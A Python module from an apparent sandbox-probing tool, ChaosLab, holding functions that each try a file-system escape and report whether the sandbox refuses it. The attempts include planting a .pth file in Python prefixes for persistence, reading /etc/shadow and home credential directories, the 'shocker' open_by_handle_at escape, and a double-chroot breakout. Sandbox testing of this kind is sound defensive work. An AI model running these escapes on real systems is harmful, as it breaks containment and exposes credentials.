"""Files that others read: the host's programs, the Python prefix that it shows, the sandbox's own tree."""

import contextlib
import ctypes
import os
import sys
from collections.abc import Iterator
from pathlib import Path

from . import calls
from .core import Refused, attempt
from .places import first, opened

PLANTED = "chaoslab-escaped.pth"


def prefixes() -> list[Path]:
    """Where Python looks for code, inside as on the host."""
    found = [Path(place) for place in (sys.prefix, sys.base_prefix, *os.environ["PATH"].split(":"))]
    roots = [place.parent if place.name == "bin" else place for place in found]
    return [place for place in dict.fromkeys(roots) if place.is_dir() and str(place) != "/"]


def plant(place: Path) -> str:
    """A file that the host's next Python would run. Raises OSError."""
    folder = next(iter(place.glob("lib/python3*/site-packages")), place)
    descriptor = os.open(folder / PLANTED, os.O_CREAT | os.O_WRONLY, 0o644)
    os.write(descriptor, b"# planted by an app\n")
    return str(folder / PLANTED)


def _each_planted() -> Iterator[str]:
    for place in prefixes():
        with contextlib.suppress(OSError):
            yield plant(place)


@attempt("files")
def plants_code_in_a_python_prefix() -> str:
    """Code there runs on the host when ChaosLab is started the next time."""
    return first(_each_planted(), f"none of {[str(place) for place in prefixes()]} can be written")


@attempt("files")
def remounts_a_prefix_and_plants_code() -> str:
    """Make the shown prefix writable first: open for an ordinary user without a wall, whose prefix is his own."""
    for place in prefixes():
        with contextlib.suppress(OSError):
            calls.mount(None, str(place), None, calls.MS_REMOUNT | calls.MS_BIND)
    return plants_code_in_a_python_prefix()


@attempt("files")
def writes_the_systems_programs() -> str:
    """Where the host's own programs are."""
    return first(
        _made("/usr/bin", "/usr/lib", "/bin", "/sbin", "/usr/local/bin"), "all of them are read-only"
    )


@attempt("files")
def makes_a_file_at_the_root() -> str:
    """The sandbox's root is nobody's to write."""
    return first(_made("/", "/opt", "/srv", "/boot"), "all of them are read-only")


def _made(*folders: str) -> Iterator[str]:
    for folder in folders:
        place = Path(folder, "escaped")
        with contextlib.suppress(OSError):
            os.close(os.open(place, os.O_CREAT | os.O_WRONLY, 0o644))
            place.unlink()
            yield f"{place} made"


@attempt("files")
def reads_the_hosts_home() -> str:
    """Keys, histories, tokens."""
    kept = (".ssh", ".gnupg", ".aws", ".config", ".netrc", ".bash_history", ".docker", ".kube")
    homes = ["/root", *(str(place) for place in Path("/home").glob("*"))]
    found = [f"{home}/{name}" for home in homes for name in kept if os.path.lexists(f"{home}/{name}")]
    if not found:
        raise Refused("nothing of anybody's home")
    return f"{found}"


@attempt("files")
def reads_the_hosts_passwords() -> str:
    """Its shadow file."""
    return opened("/etc/shadow", os.O_RDONLY)


@attempt("files")
def opens_a_file_by_its_handle() -> str:
    """open_by_handle_at(2) looks beyond every mount: the way out of the first Docker ("shocker")."""
    handle = ctypes.create_string_buffer(
        b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16
    )  # inode 2: an ext4's root
    place = os.open("/etc", os.O_RDONLY)
    descriptor = calls.call("open_by_handle_at", place, handle, os.O_RDONLY)
    return f"the root of a file system: {os.listdir(descriptor)}"


@attempt("files")
def names_a_file_by_its_handle() -> str:
    """The other half, name_to_handle_at(2)."""
    room, mount_id = (128).to_bytes(4, sys.byteorder), ctypes.create_string_buffer(4)
    handle = ctypes.create_string_buffer(room, 144)
    calls.call("name_to_handle_at", -100, b"/tmp", handle, mount_id, 0)
    return f"a handle of /tmp: {handle.raw[8:24].hex()}"


@attempt("files")
def leaves_its_root() -> str:
    """The double chroot: out of a root that is only a directory, to the one of its mount namespace."""
    before = os.stat("/")
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("/tmp/inner", exist_ok=True)
    os.chroot("/tmp/inner")
    os.fchdir(outside)
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    after = os.stat("/")
    if (before.st_dev, before.st_ino) == (after.st_dev, after.st_ino):
        raise Refused("above its root there is nothing")
    return f"another root: {os.listdir('/')}"


@attempt("files")
def climbs_out_of_its_own_links() -> str:
    """/proc/self/root, cwd and exe lead nowhere else."""
    here = (os.stat("/").st_dev, os.stat("/").st_ino)
    for place in (
        "/proc/self/root",
        "/proc/thread-self/root",
        "/proc/self/cwd/../../../../..",
        "/proc/self/task/../root",
    ):
        with contextlib.suppress(FileNotFoundError):
            seen = os.stat(place)
            if (seen.st_dev, seen.st_ino) != here:
                return f"{place}: {os.listdir(place)}"
    raise Refused("all of them are the app's own root")
